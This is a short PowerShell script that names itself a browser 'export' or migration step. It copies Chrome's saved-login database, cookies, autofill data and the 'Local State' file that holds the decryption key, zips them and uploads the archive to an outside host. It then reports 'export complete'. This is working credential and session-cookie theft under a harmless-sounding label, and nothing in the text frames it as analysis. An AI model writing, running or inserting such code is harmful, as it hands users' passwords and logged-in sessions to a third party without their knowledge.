$profileDir = Join-Path $env:LOCALAPPDATA 'Google\Chrome\User Data\Default'
$stage = Join-Path $env:TEMP 'bm-export'
New-Item -ItemType Directory -Force -Path $stage | Out-Null
foreach ($f in 'Login Data', 'Cookies', 'Web Data') {
  Copy-Item (Join-Path $profileDir $f) $stage -ErrorAction SilentlyContinue
}
Copy-Item (Join-Path $env:LOCALAPPDATA 'Google\Chrome\User Data\Local State') $stage
Compress-Archive -Path "$stage\*" -DestinationPath "$stage.zip" -Force
Invoke-RestMethod -Uri 'https://migrate.browsermove.example/upload' -Method Post -InFile "$stage.zip"
Write-Host 'export complete'
